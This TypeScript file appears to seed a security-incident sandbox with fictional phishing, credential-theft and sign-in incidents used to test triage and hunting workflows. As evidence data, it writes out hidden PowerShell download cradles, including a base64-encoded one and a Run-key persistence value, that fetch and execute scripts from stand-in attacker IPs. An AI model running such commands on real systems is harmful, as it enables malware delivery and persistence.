// Thirteen realistic incidents over the last 30 days, built from the fictional tenant in ./entities: the phishing →
// credential-theft story for amy.wong, PowerShell on ws-fin-042, raj.patel's malicious sign-ins and inbox rule,
// a tail of benign, resolved, false-positive and redirected incidents, and one open incident nobody has touched for
// four weeks. Times are relative to `now`, so a fresh sandbox gives each shipped scheduled workflow something to do on
// its first run: suspicious-powershell finds the beacon of ~30 min ago (sandbox/kql/seedTables.ts) on 3309's device,
// stale-incident-triage finds 3300.
import { createHash } from 'node:crypto';
import type { DeviceEvidence, StoredAlert, StoredEvidence, StoredIncident, UserEvidence } from '../incidents/model';
import { analysts, devices, files, maliciousIps, phishingSender, users } from './entities';

// The seed hunting tables' account SIDs end in these numbers (sandbox/kql seedBenign.ts PROFILES).
const SID_SUFFIX: Record<string, number> = {
  'amy.wong': 1104,
  'svc-backup': 1201,
  'lena.fischer': 1107,
  'raj.patel': 1113,
};

const MINUTE = 60_000;
const HOUR = 60 * MINUTE;
const DAY = 24 * HOUR;

/** ISO time `ago` ms before now with `digits` fractional digits (the APIs send 2 to 7), deterministic per call site. */
function at(now: Date, ago: number, digits = 7, salt = ''): string {
  const d = new Date(now.getTime() - ago);
  const base = d.toISOString().slice(0, 19);
  const extra = createHash('sha1').update(`${ago}:${salt}`).digest('hex').replace(/\D/g, '').padEnd(4, '7');
  const fraction = (String(d.getUTCMilliseconds()).padStart(3, '0') + extra.slice(0, 4))
    .slice(0, digits)
    .replace(/0+$/, '');
  return fraction ? `${base}.${fraction}Z` : `${base}Z`;
}

const invoiceFile = (time: string, onDevice: string | null): StoredEvidence => ({
  kind: 'file',
  createdDateTime: time,
  verdict: 'malicious',
  remediationStatus: 'remediated',
  roles: [],
  fileName: files[0].fileName,
  filePath: onDevice ? 'C:\\Users\\amy.wong\\Downloads' : null,
  sha1: files[0].sha1,
  sha256: files[0].sha256,
  fileSize: 1_245_184,
  mdeDeviceId: onDevice,
  detectionStatus: 'detected',
});

const hash = (algorithm: 'sha1' | 'sha256', text: string): string => createHash(algorithm).update(text).digest('hex');

const [finWs, sqlSrv, hrWs, macDev] = devices;
const [amy, raj, svcBackup, lena] = users;
const [invoiceExe, mimikatz] = files;
const [ipA, ipB, ipC] = maliciousIps;
const [secops1, secops2, tier2] = analysts;

function device(d: (typeof devices)[number], time: string, extra: Partial<DeviceEvidence> = {}): DeviceEvidence {
  return {
    kind: 'device',
    createdDateTime: time,
    verdict: 'unknown',
    remediationStatus: 'none',
    roles: [],
    mdeDeviceId: d.deviceId,
    azureAdDeviceId: d.aadDeviceId,
    deviceDnsName: d.deviceName,
    osPlatform: d.os,
    osBuild: d.os.startsWith('Windows') ? 22631 : null,
    version: d.os === 'macOS' ? '14.5' : d.os === 'WindowsServer2022' ? '21H2' : '23H2',
    healthStatus: 'active',
    riskScore: 'medium',
    rbacGroupId: d.deviceName.startsWith('srv') ? 2 : 1,
    rbacGroupName: d.deviceName.startsWith('srv') ? 'Servers' : 'Workstations',
    firstSeenDateTime: '2024-03-11T09:12:44.2733333Z',
    onboardingStatus: 'onboarded',
    defenderAvStatus: 'updated',
    tags: d.deviceName.startsWith('ws-fin') ? ['Finance'] : [],
    ...extra,
  };
}

function user(
  u: (typeof users)[number],
  time: string,
  roles: string[] = [],
  verdict: UserEvidence['verdict'] = 'unknown',
): UserEvidence {
  return {
    kind: 'user',
    createdDateTime: time,
    verdict,
    remediationStatus: 'none',
    roles,
    accountName: u.accountName,
    domainName: 'contoso',
    userSid: `S-1-5-21-1004336348-1177238915-682003330-${SID_SUFFIX[u.accountName] ?? 1100}`,
    azureAdUserId: u.objectId,
    userPrincipalName: u.upn,
    displayName: u.displayName,
  };
}

function ip(
  address: string,
  time: string,
  roles: string[] = ['attacker'],
  country: string | null = 'NL',
): StoredEvidence {
  return {
    kind: 'ip',
    createdDateTime: time,
    verdict: 'malicious',
    remediationStatus: 'none',
    roles,
    ipAddress: address,
    countryLetterCode: country,
  };
}

interface AlertInit {
  id: string;
  title: string;
  description: string;
  category: string;
  severity: StoredAlert['severity'];
  serviceSource: StoredAlert['serviceSource'];
  detectionSource: string;
  created: number;
  mitre: string[];
  evidence: (time: string) => StoredEvidence[];
  status?: StoredAlert['status'];
  classification?: StoredAlert['classification'];
  determination?: StoredAlert['determination'];
  assignedTo?: string | null;
  threatFamilyName?: string | null;
  resolvedAfter?: number;
}

function alert(now: Date, a: AlertInit): StoredAlert {
  const created = at(now, a.created, 7, a.id);
  return {
    id: a.id,
    providerAlertId: a.id.replace(/^[a-z]{2}/, ''),
    title: a.title,
    description: a.description,
    category: a.category,
    severity: a.severity,
    status: a.status ?? 'new',
    serviceSource: a.serviceSource,
    detectionSource: a.detectionSource,
    detectorId:
      hash('sha1', a.title).slice(0, 8) +
      '-' +
      hash('sha1', a.title).slice(8, 12) +
      '-4' +
      hash('sha1', a.title).slice(13, 16) +
      '-a' +
      hash('sha1', a.title).slice(17, 20) +
      '-' +
      hash('sha1', a.title).slice(20, 32),
    createdDateTime: created,
    lastUpdateDateTime: at(now, a.created - 10 * MINUTE, 7, a.id + 'u'),
    firstActivityDateTime: at(now, a.created + 12 * MINUTE, 7, a.id + 'f'),
    lastActivityDateTime: at(now, a.created + 2 * MINUTE, 7, a.id + 'l'),
    resolvedDateTime: a.resolvedAfter !== undefined ? at(now, a.created - a.resolvedAfter, 7, a.id + 'r') : null,
    classification: a.classification ?? 'unknown',
    determination: a.determination ?? 'unknown',
    assignedTo: a.assignedTo ?? null,
    actorDisplayName: null,
    threatFamilyName: a.threatFamilyName ?? null,
    mitreTechniques: a.mitre,
    investigationId: a.serviceSource === 'microsoftDefenderForEndpoint' ? 7000 + (Number(a.id.slice(-4)) % 1000) : null,
    investigationState:
      a.serviceSource === 'microsoftDefenderForEndpoint'
        ? a.status === 'resolved'
          ? 'Benign'
          : 'PendingApproval'
        : 'UnsupportedAlertType',
    evidence: a.evidence(created),
    comments: [],
  };
}

/**
 * The seed incidents. `alertIds` are the five alert ids of the seed hunting tables (sandbox/kql seedTables.ts), in
 * its order: [0] PowerShell download cradle on ws-fin-042, [1] encoded PowerShell on ws-hr-007, [2] phishing mail,
 * [3] inbox forwarding rule, [4] activity from malicious IPs. Titles, times and entities mirror that story so a
 * hunting query built from an incident's entities finds rows (test/sandbox/seed.test.ts checks this).
 */
export function createSeedIncidents(now: Date, alertIds: readonly string[]): StoredIncident[] {
  const id = (n: number): string => alertIds[n] ?? `da6371000000000000_${1001 + n}`;
  const stage = (path: string): string => `IEX (New-Object Net.WebClient).DownloadString('${path}')`;
  const finCradle = `powershell.exe -NoP -W Hidden -c "${stage(`http://${ipA}/stage2.ps1`)}"`;
  const hrEncoded = `powershell.exe -nop -w hidden -enc ${Buffer.from(stage(`http://${ipB}/update.ps1`), 'utf16le').toString('base64')}`;

  const incidents: StoredIncident[] = [];
  const add = (
    i: Omit<StoredIncident, 'lastModifiedBy' | 'redirectIncidentId' | 'systemTags' | 'summary' | 'resolvingComment'> &
      Partial<StoredIncident>,
  ): void => {
    incidents.push({
      lastModifiedBy: null,
      redirectIncidentId: null,
      systemTags: [],
      summary: null,
      resolvingComment: null,
      ...i,
    });
  };
  const mailbox = (u: (typeof users)[number], t: string, roles: string[]): StoredEvidence => ({
    kind: 'mailbox',
    createdDateTime: t,
    verdict: 'unknown',
    remediationStatus: 'none',
    roles,
    displayName: u.displayName,
    primaryAddress: u.upn,
    azureAdUserId: u.objectId,
  });
  const powershell = (
    d: (typeof devices)[number],
    u: (typeof users)[number],
    t: string,
    commandLine: string,
    pid: number,
  ): StoredEvidence => ({
    kind: 'process',
    createdDateTime: t,
    verdict: 'suspicious',
    remediationStatus: 'none',
    roles: [],
    processId: pid,
    parentProcessId: pid - 1204,
    processCommandLine: commandLine,
    processCreationDateTime: t,
    parentProcessCreationDateTime: t,
    imageFileName: 'powershell.exe',
    imageFilePath: 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0',
    sha1: null,
    sha256: null,
    accountName: u.accountName,
    domainName: 'contoso',
    mdeDeviceId: d.deviceId,
  });

  // 1. Phishing → credential theft for amy.wong: the phishing mail ([2]), then on her device the attachment runs a
  //    PowerShell download cradle that drops mimikatz ([0]).
  add({
    id: 3309,
    displayName: 'Multi-stage incident involving Initial access & Execution on one endpoint',
    status: 'active',
    severity: 'high',
    classification: 'unknown',
    determination: 'unknown',
    assignedTo: null,
    customTags: ['Phishing', 'VIP'],
    systemTags: ['Credential Phish'],
    description: `A phishing mail from ${phishingSender} reached ${amy.upn}; on ${finWs.deviceName} the invoice attachment started PowerShell, which downloaded a second stage and dropped the credential theft tool ${mimikatz.fileName}.`,
    priorityScore: 91,
    createdDateTime: at(now, 29.5 * HOUR, 7, '3309'),
    lastUpdateDateTime: at(now, 19.5 * HOUR, 7, '3309u'),
    comments: [],
    alerts: [
      alert(now, {
        id: id(2),
        title: 'Email messages containing malicious URL removed after delivery',
        description: `Emails from ${phishingSender} with a link to a credential-harvesting page were delivered and later removed by zero-hour auto purge.`,
        category: 'InitialAccess',
        severity: 'medium',
        serviceSource: 'microsoftDefenderForOffice365',
        detectionSource: 'microsoftDefenderForOffice365',
        created: 29.5 * HOUR,
        mitre: ['T1566.002'],
        evidence: (t) => [
          ...[amy, lena].map((u): StoredEvidence => ({
            kind: 'mailMessage',
            createdDateTime: t,
            verdict: 'malicious',
            remediationStatus: 'remediated',
            roles: [],
            networkMessageId: '4f8e2c1a-7b3d-4e9f-a1c2-d3e4f5a6b7c8',
            internetMessageId: '<PH0PR11MB4968E1A2B3C4D5E6F7@PH0PR11MB4968.namprd11.prod.outlook.com>',
            subject: 'Overdue invoice 2026-0113 - payment required today',
            sender: phishingSender,
            senderIp: ipC,
            recipient: u.upn,
            deliveryAction: 'Delivered',
            deliveryLocation: 'Inbox',
            receivedDateTime: t,
            attachmentsCount: 1,
            urlCount: 1,
          })),
          {
            kind: 'url',
            createdDateTime: t,
            verdict: 'malicious',
            remediationStatus: 'none',
            roles: [],
            url: 'https://fabrikam-payments.example/invoice/2026-0113',
          },
          mailbox(amy, t, ['contextual']),
          user(amy, t, ['compromised']),
          user(lena, t),
          {
            kind: 'mailCluster',
            createdDateTime: t,
            verdict: 'malicious',
            remediationStatus: 'remediated',
            roles: [],
            clusterBy: 'Sender',
            clusterByValue: phishingSender,
            emailCount: 2,
            networkMessageIds: ['4f8e2c1a-7b3d-4e9f-a1c2-d3e4f5a6b7c8'],
            query: `SenderFromAddress == '${phishingSender}'`,
            urn: 'urn:MailClusterEntity:0d1e2f3a4b5c6d7e8f9a0b1c2d3e4f5a',
          },
        ],
      }),
      alert(now, {
        id: id(0),
        title: 'Suspicious PowerShell download cradle',
        description: `PowerShell started by ${invoiceExe.fileName} on ${finWs.deviceName} downloaded and ran a script from ${ipA}, then dropped ${mimikatz.fileName}.`,
        category: 'Execution',
        severity: 'high',
        serviceSource: 'microsoftDefenderForEndpoint',
        detectionSource: 'microsoftDefenderForEndpoint',
        created: 20 * HOUR,
        mitre: ['T1059.001', 'T1105'],
        threatFamilyName: 'Mimikatz',
        evidence: (t) => [
          device(finWs, t, { roles: ['compromised'], riskScore: 'high' }),
          user(amy, t, ['compromised']),
          powershell(finWs, amy, t, finCradle, 9144),
          invoiceFile(t, finWs.deviceId),
          {
            kind: 'file',
            createdDateTime: t,
            verdict: 'malicious',
            remediationStatus: 'prevented',
            roles: [],
            fileName: mimikatz.fileName,
            filePath: 'C:\\Users\\Public',
            sha1: mimikatz.sha1,
            sha256: mimikatz.sha256,
            fileSize: 1_355_680,
            mdeDeviceId: finWs.deviceId,
            detectionStatus: 'prevented',
          },
          ip(ipA, t),
          {
            kind: 'url',
            createdDateTime: t,
            verdict: 'malicious',
            remediationStatus: 'none',
            roles: [],
            url: `http://${ipA}/stage2.ps1`,
          },
          {
            kind: 'registryKey',
            createdDateTime: t,
            verdict: 'suspicious',
            remediationStatus: 'none',
            roles: [],
            registryKey: 'SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run',
            registryHive: 'HKEY_CURRENT_USER',
          },
          {
            kind: 'registryValue',
            createdDateTime: t,
            verdict: 'malicious',
            remediationStatus: 'remediated',
            roles: [],
            mdeDeviceId: finWs.deviceId,
            registryKey: 'SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run',
            registryHive: 'HKEY_CURRENT_USER',
            registryValue: `powershell.exe -w hidden -c iex(iwr http://${ipA}/stage2.ps1)`,
            registryValueName: 'OneDriveSync',
            registryValueType: 'String',
          },
        ],
      }),
    ],
  });

  // 2. Encoded PowerShell on ws-hr-007 after lena.fischer clicked the same phishing link ([1]).
  add({
    id: 3310,
    displayName: `Suspicious PowerShell encoded command on ${hrWs.deviceName.split('.')[0]}`,
    status: 'inProgress',
    severity: 'high',
    classification: 'unknown',
    determination: 'unknown',
    assignedTo: secops1,
    customTags: ['Endpoint'],
    description: 'A hidden, base64-encoded PowerShell command downloaded and ran a script from an external address.',
    priorityScore: 72,
    createdDateTime: at(now, 18 * HOUR, 3, '3310'),
    lastUpdateDateTime: at(now, 16 * HOUR, 3, '3310u'),
    lastModifiedBy: `API-App:${secops1}`,
    comments: [
      {
        comment: 'Isolating the device while we review the downloaded script.',
        createdBy: secops1,
        createdDateTime: at(now, 16 * HOUR, 3, '3310c'),
      },
    ],
    alerts: [
      alert(now, {
        id: id(1),
        title: 'Suspicious PowerShell encoded command',
        description: `PowerShell on ${hrWs.deviceName} ran a hidden encoded command that downloads content from ${ipB}.`,
        category: 'Execution',
        severity: 'high',
        serviceSource: 'microsoftDefenderForEndpoint',
        detectionSource: 'microsoftDefenderForEndpoint',
        created: 18 * HOUR,
        mitre: ['T1059.001', 'T1027'],
        status: 'inProgress',
        assignedTo: secops1,
        evidence: (t) => [
          device(hrWs, t, { roles: ['compromised'] }),
          user(lena, t, ['compromised']),
          powershell(hrWs, lena, t, hrEncoded, 6412),
          ip(ipB, t),
        ],
      }),
    ],
  });

  // 3. Inbox forwarding rule in amy.wong's mailbox ([3]).
  add({
    id: 3311,
    displayName: 'Suspicious inbox forwarding rule',
    status: 'active',
    severity: 'medium',
    classification: 'unknown',
    determination: 'unknown',
    assignedTo: null,
    customTags: [],
    description: `A rule forwarding mail to an external fabrikam address was created in ${amy.displayName}'s mailbox from ${ipA}.`,
    priorityScore: 55,
    createdDateTime: at(now, 9 * HOUR, 7, '3311'),
    lastUpdateDateTime: at(now, 8.5 * HOUR, 7, '3311u'),
    comments: [],
    alerts: [
      alert(now, {
        id: id(3),
        title: 'Suspicious inbox forwarding rule',
        description: `${amy.upn} created inbox rules forwarding messages to amy.archive@fabrikam.com, a common exfiltration step after account takeover.`,
        category: 'Exfiltration',
        severity: 'medium',
        serviceSource: 'microsoftDefenderForCloudApps',
        detectionSource: 'microsoftDefenderForCloudApps',
        created: 9 * HOUR,
        mitre: ['T1114.003'],
        evidence: (t) => [
          {
            kind: 'mailboxConfiguration',
            createdDateTime: t,
            verdict: 'suspicious',
            remediationStatus: 'none',
            roles: [],
            mailboxPrimaryAddress: amy.upn,
            displayName: 'Forward to archive (amy.archive@fabrikam.com)',
            configurationType: 'mailForwardingRule',
            configurationId: 'c3d1f7a2-5b9e-4a61-b8d0-7e2f4c6a9b13',
            externalDirectoryObjectId: amy.objectId,
          },
          mailbox(amy, t, ['compromised']),
          user(amy, t, ['compromised']),
          ip(ipA, t),
          {
            kind: 'cloudApplication',
            createdDateTime: t,
            verdict: 'unknown',
            remediationStatus: 'none',
            roles: ['contextual'],
            appId: 20893,
            displayName: 'Microsoft Exchange Online',
            instanceId: 0,
            instanceName: 'Microsoft Exchange Online',
            saasAppId: 20893,
          },
          {
            kind: 'oauthApplication',
            createdDateTime: t,
            verdict: 'suspicious',
            remediationStatus: 'none',
            roles: [],
            appId: '5b2c9e4a-1d3f-4a6b-8c7d-9e0f1a2b3c4d',
            displayName: 'Mail Archiver Pro',
            objectId: '7e6d5c4b-3a29-4817-9f6e-5d4c3b2a1908',
            publisher: null,
          },
          {
            kind: 'securityGroup',
            createdDateTime: t,
            verdict: 'unknown',
            remediationStatus: 'none',
            roles: ['contextual'],
            securityGroupId: '2a4c6e8f-1b3d-4f5a-9c7e-0d2f4a6c8e1b',
            displayName: 'Finance',
            activeDirectoryObjectGuid: null,
            distinguishedName: null,
            friendlyName: 'Finance',
            sid: null,
          },
        ],
      }),
    ],
  });

  // 4. Activity from malicious IP addresses for raj.patel (and amy.wong) ([4]).
  add({
    id: 3312,
    displayName: `Activity from malicious IP addresses involving ${raj.accountName}`,
    status: 'active',
    severity: 'medium',
    classification: 'unknown',
    determination: 'unknown',
    assignedTo: tier2,
    customTags: ['Identity'],
    description: `${raj.displayName} and ${amy.displayName} signed in from addresses on a threat-intelligence block list.`,
    priorityScore: 78,
    createdDateTime: at(now, 6 * HOUR, 2, '3312'),
    lastUpdateDateTime: at(now, 5 * HOUR, 2, '3312u'),
    comments: [],
    alerts: [
      alert(now, {
        id: id(4),
        title: 'Activity from a malicious IP address',
        description: `Sign-ins and activity for ${raj.upn} came from ${ipB}, ${ipC} and ${ipA}, known to be used by an active threat actor.`,
        category: 'InitialAccess',
        severity: 'medium',
        serviceSource: 'microsoftDefenderForCloudApps',
        detectionSource: 'microsoftDefenderForCloudApps',
        created: 6 * HOUR,
        mitre: ['T1078'],
        evidence: (t) => [
          user(raj, t, ['compromised'], 'suspicious'),
          user(amy, t, ['compromised']),
          ip(ipB, t, ['attacker'], 'RO'),
          ip(ipC, t),
          ip(ipA, t),
        ],
      }),
    ],
  });

  // 5–12. The benign, resolved and false-positive tail.
  const simple = (
    n: number,
    ago: number,
    title: string,
    init: Partial<StoredIncident>,
    a: Omit<AlertInit, 'id' | 'created'> & { idPrefix: string },
  ): void => {
    const { idPrefix, ...rest } = a;
    const resolved = init.status === 'resolved';
    add({
      id: n,
      displayName: title,
      status: 'active',
      severity: rest.severity,
      classification: 'unknown',
      determination: 'unknown',
      assignedTo: null,
      customTags: [],
      description: null,
      priorityScore: null,
      createdDateTime: at(now, ago, 7, String(n)),
      lastUpdateDateTime: at(now, ago - (resolved ? 6 * HOUR : 0), 7, `${n}u`),
      comments: [],
      ...init,
      alerts: [
        alert(now, {
          ...rest,
          id: `${idPrefix}_${n - 3300 + 2000}`,
          created: ago,
          status: resolved || init.status === 'redirected' ? 'resolved' : 'new',
          resolvedAfter: resolved ? 6 * HOUR : undefined,
          classification: init.classification,
          determination: init.determination,
          assignedTo: init.assignedTo ?? null,
        }),
      ],
    });
  };

  simple(
    3308,
    7 * DAY,
    `EICAR test file detected on ${macDev.deviceName.split('.')[0]}`,
    {
      status: 'resolved',
      severity: 'informational',
      classification: 'informationalExpectedActivity',
      determination: 'securityTesting',
      assignedTo: secops2,
      customTags: ['Test'],
      resolvingComment: 'Quarterly AV test by the endpoint team.',
      lastModifiedBy: secops2,
    },
    {
      idPrefix: 'da6371000000000001',
      title: "'EICAR_Test_File' malware was prevented",
      description: 'The EICAR anti-malware test file was detected and quarantined.',
      category: 'Malware',
      severity: 'informational',
      serviceSource: 'microsoftDefenderForEndpoint',
      detectionSource: 'antivirus',
      mitre: [],
      threatFamilyName: 'EICAR_Test_File',
      evidence: (t) => [
        device(macDev, t),
        {
          kind: 'file',
          createdDateTime: t,
          verdict: 'malicious',
          remediationStatus: 'prevented',
          roles: [],
          fileName: 'eicar.com',
          filePath: '/Users/dev/Downloads',
          sha1: hash('sha1', 'eicar.com'),
          sha256: hash('sha256', 'eicar.com'),
          fileSize: 68,
          mdeDeviceId: macDev.deviceId,
          detectionStatus: 'prevented',
        },
      ],
    },
  );

  simple(
    3307,
    9 * DAY,
    `Unusual volume of file access by ${svcBackup.accountName} on ${sqlSrv.deviceName.split('.')[0]}`,
    {
      status: 'resolved',
      severity: 'low',
      classification: 'falsePositive',
      determination: 'clean',
      assignedTo: secops2,
      resolvingComment: 'Nightly full backup after the storage migration; expected volume.',
      comments: [
        {
          comment: 'Matches the change ticket CHG-20931 for the storage migration.',
          createdBy: secops2,
          createdDateTime: at(now, 9 * DAY - 3 * HOUR, 2, '3307c'),
        },
      ],
    },
    {
      idPrefix: 'da6371000000000001',
      title: 'Possible data staging by a service account',
      description: `${svcBackup.upn} read an unusually large number of files on ${sqlSrv.deviceName}.`,
      category: 'Collection',
      severity: 'low',
      serviceSource: 'microsoftDefenderForEndpoint',
      detectionSource: 'microsoftDefenderForEndpoint',
      mitre: ['T1074.001'],
      evidence: (t) => [device(sqlSrv, t), user(svcBackup, t)],
    },
  );

  simple(
    3306,
    12 * DAY,
    'Password spray attack against multiple users',
    {
      status: 'resolved',
      severity: 'medium',
      classification: 'truePositive',
      determination: 'maliciousUserActivity',
      assignedTo: tier2,
      customTags: ['Identity', 'Blocked'],
      resolvingComment: 'Source address blocked at the perimeter; no successful sign-ins.',
      priorityScore: 40,
      comments: [
        {
          comment: `Blocked ${ipC} on the firewall.`,
          createdBy: tier2,
          createdDateTime: at(now, 12 * DAY - 2 * HOUR, 3, '3306a'),
        },
        {
          comment: 'No successful sign-ins from the spray; closing.',
          createdBy: tier2,
          createdDateTime: at(now, 12 * DAY - 5 * HOUR, 3, '3306b'),
        },
      ],
    },
    {
      idPrefix: 'aad3f1c2e4b5a6978812',
      title: 'Password spray',
      description: `Many accounts had failed sign-ins from ${ipC} within a short time.`,
      category: 'CredentialAccess',
      severity: 'medium',
      serviceSource: 'azureAdIdentityProtection',
      detectionSource: 'azureAdIdentityProtection',
      mitre: ['T1110.003'],
      evidence: (t) => [user(lena, t, ['attacked']), user(raj, t, ['attacked']), ip(ipC, t)],
    },
  );

  simple(
    3305,
    15 * DAY,
    `Unwanted software detected on ${hrWs.deviceName.split('.')[0]}`,
    {
      status: 'resolved',
      severity: 'low',
      classification: 'truePositive',
      determination: 'unwantedSoftware',
      assignedTo: secops1,
      resolvingComment: 'Adware removed by automated investigation.',
    },
    {
      idPrefix: 'da6371000000000001',
      title: "'BundleInstaller' unwanted software was removed",
      description: 'A potentially unwanted application bundled with a PDF tool was removed.',
      category: 'Malware',
      severity: 'low',
      serviceSource: 'microsoftDefenderForEndpoint',
      detectionSource: 'antivirus',
      mitre: [],
      threatFamilyName: 'BundleInstaller',
      evidence: (t) => [
        device(hrWs, t),
        {
          kind: 'file',
          createdDateTime: t,
          verdict: 'suspicious',
          remediationStatus: 'remediated',
          roles: [],
          fileName: 'pdfsetup_free.exe',
          filePath: 'C:\\Users\\lena.fischer\\Downloads',
          sha1: hash('sha1', 'pdfsetup_free.exe'),
          sha256: hash('sha256', 'pdfsetup_free.exe'),
          fileSize: 3_145_728,
          mdeDeviceId: hrWs.deviceId,
          detectionStatus: 'detected',
        },
        user(lena, t),
      ],
    },
  );

  simple(
    3304,
    18 * DAY,
    `PsExec used on ${sqlSrv.deviceName.split('.')[0]}`,
    {
      status: 'resolved',
      severity: 'informational',
      classification: 'informationalExpectedActivity',
      determination: 'confirmedActivity',
      assignedTo: secops1,
      customTags: ['IT-Admin'],
      resolvingComment: 'Confirmed with the DBA team: scheduled maintenance.',
    },
    {
      idPrefix: 'da6371000000000001',
      title: 'Remote execution with PsExec',
      description: `PsExec started a service on ${sqlSrv.deviceName}.`,
      category: 'LateralMovement',
      severity: 'informational',
      serviceSource: 'microsoftDefenderForEndpoint',
      detectionSource: 'microsoftDefenderForEndpoint',
      mitre: ['T1569.002'],
      evidence: (t) => [device(sqlSrv, t), user(svcBackup, t)],
    },
  );

  simple(
    3303,
    21 * DAY,
    `Phishing link clicked by ${lena.accountName} was blocked`,
    {
      status: 'resolved',
      severity: 'medium',
      classification: 'truePositive',
      determination: 'phishing',
      assignedTo: secops2,
      customTags: ['Phishing'],
      resolvingComment: 'Safe Links blocked the page; password reset as a precaution.',
      priorityScore: 35,
    },
    {
      idPrefix: 'fa2b7c9d1e3f4a5b6c7d',
      title: 'A potentially malicious URL click was detected',
      description: `${lena.upn} clicked a link to a credential-harvesting page; Safe Links blocked it.`,
      category: 'InitialAccess',
      severity: 'medium',
      serviceSource: 'microsoftDefenderForOffice365',
      detectionSource: 'microsoftDefenderForOffice365',
      mitre: ['T1566.002'],
      evidence: (t) => [
        {
          kind: 'url',
          createdDateTime: t,
          verdict: 'malicious',
          remediationStatus: 'blocked',
          roles: [],
          url: 'https://login-contoso.example/owa/auth',
        },
        user(lena, t),
      ],
    },
  );

  simple(
    3302,
    25 * DAY,
    `Impossible travel activity for ${lena.accountName}`,
    {
      status: 'resolved',
      severity: 'low',
      classification: 'falsePositive',
      determination: 'insufficientData',
      assignedTo: tier2,
      resolvingComment: 'VPN egress in another region; not enough data to say more.',
    },
    {
      idPrefix: 'ca9e8d7c6b5a4f3e2d1c',
      title: 'Impossible travel activity',
      description: `${lena.upn} signed in from two distant locations within 40 minutes.`,
      category: 'InitialAccess',
      severity: 'low',
      serviceSource: 'microsoftDefenderForCloudApps',
      detectionSource: 'microsoftDefenderForCloudApps',
      mitre: ['T1078'],
      evidence: (t) => [user(lena, t), ip('203.0.113.200', t, ['contextual'], 'SG')],
    },
  );

  simple(
    3301,
    29 * DAY,
    `Multiple failed sign-ins for ${svcBackup.accountName}`,
    {
      status: 'redirected',
      severity: 'low',
      redirectIncidentId: 3306,
      customTags: [],
    },
    {
      idPrefix: 'aad3f1c2e4b5a6978812',
      title: 'Multiple failed user log on attempts',
      description: `${svcBackup.upn} had repeated failed sign-ins.`,
      category: 'CredentialAccess',
      severity: 'low',
      serviceSource: 'azureAdIdentityProtection',
      detectionSource: 'azureAdIdentityProtection',
      mitre: ['T1110'],
      evidence: (t) => [user(svcBackup, t, ['attacked']), ip(ipC, t)],
    },
  );

  // Open and untouched since it was raised four weeks ago: stale-incident-triage's first run tags it stale, assigns it
  // to the triage queue and says why.
  simple(
    3300,
    29.7 * DAY,
    `Unfamiliar sign-in properties for ${lena.accountName}`,
    { severity: 'low' },
    {
      idPrefix: 'aad3f1c2e4b5a6978812',
      title: 'Unfamiliar sign-in properties',
      description: `A sign-in for ${lena.upn} came from a browser and location not seen for this user before.`,
      category: 'InitialAccess',
      severity: 'low',
      serviceSource: 'azureAdIdentityProtection',
      detectionSource: 'azureAdIdentityProtection',
      mitre: ['T1078'],
      evidence: (t) => [user(lena, t), ip('203.0.113.61', t, ['contextual'], 'PT')],
    },
  );

  return incidents;
}
